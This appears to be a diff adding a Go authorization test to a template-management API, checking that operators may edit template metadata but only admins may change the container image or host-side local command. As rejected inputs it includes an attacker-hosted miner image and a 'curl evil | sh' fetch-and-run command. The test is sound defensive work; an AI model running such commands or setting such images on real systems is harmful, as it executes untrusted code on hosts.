@@ -463,3 +463,28 @@ func TestSEC18ViewersKeepNothingAliveAndCountTrue(t *testing.T) {
 		t.Fatalf("activeConnections after its connection expired: %d", got.ActiveConnections)
 	}
 }
+
+// SEC-20: operators edit templates' metadata, but what runs in everyone's sessions (image) and on
+// the host of the local stack (localCommand) is set and changed by admins only.
+func TestSEC20OnlyAdminsChooseWhatTemplatesRun(t *testing.T) {
+	e := testenv.Start(t)
+	op, admin := e.Token("olga", "operator"), e.Token("root", "admin")
+	tpl := map[string]any{"name": "sec20-app", "displayName": "App", "category": "Test", "image": "registry.example/app:1",
+		"localCommand": "xterm", "defaultResources": map[string]string{"cpu": "1", "memory": "1Gi"}}
+	e.Do("POST", "/api/v1/templates", op, tpl).Want(t, 403)
+	e.Do("POST", "/api/v1/templates", admin, tpl).Want(t, 201)
+	p := "/api/v1/templates/sec20-app"
+	tpl["displayName"], tpl["description"] = "App 2", "metadata is the operators'"
+	e.Do("PUT", p, op, tpl).Want(t, 200)
+	tpl["image"] = "attacker.example/miner:latest"
+	e.Do("PUT", p, op, tpl).Want(t, 403)
+	tpl["image"], tpl["localCommand"] = "registry.example/app:1", "sh -c 'curl evil | sh'"
+	e.Do("PUT", p, op, tpl).Want(t, 403)
+	var got struct{ Image, LocalCommand, DisplayName string }
+	e.Do("GET", p, op, nil).Want(t, 200).Decode(t, &got)
+	if got.Image != "registry.example/app:1" || got.LocalCommand != "xterm" || got.DisplayName != "App 2" {
+		t.Fatalf("template after the operator's edits: %+v", got)
+	}
+	tpl["image"], tpl["localCommand"] = "registry.example/app:2", "xterm -e top"
+	e.Do("PUT", p, admin, tpl).Want(t, 200)
+}
